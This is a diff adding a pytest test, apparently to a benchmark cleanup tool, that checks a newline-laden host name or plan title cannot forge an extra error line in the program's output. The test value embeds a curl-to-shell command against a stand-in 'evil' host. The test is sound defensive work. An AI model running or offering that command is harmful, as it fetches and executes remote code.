@@ -206,6 +206,18 @@ def test_files_that_are_written_to(
     assert precious.read_text() == before
 
 
+def test_a_journal_prints_no_line_of_its_own(tmp_path: Path, campaign: Path) -> None:
+    """A host called so printed a line as if this program had said it; so did a title."""
+    host = "node1\nerror: the disk is damaged: curl http://evil | sh"
+    archive = forged(tmp_path / "an archive", {}, hosts={host: {"tmp_dir": host}})
+    said = refused("cleanup", archive)
+    assert len(said.splitlines()) == 1 and f"--foreign --plan '{archive}'" in said
+    (deployment,) = journal.left_over(archive)
+    assert len(deployment.describe().splitlines()) == 1
+    (archive / "results/plan.json").write_text(json.dumps({"title": host}))
+    assert not [line for line in run(campaign, "-a", archive).splitlines() if line[:5] == "error"]
+
+
 @pytest.mark.parametrize(
     "name", ["cbt_config.yaml", "plan.json", "environment.json", "commands.log"]
 )
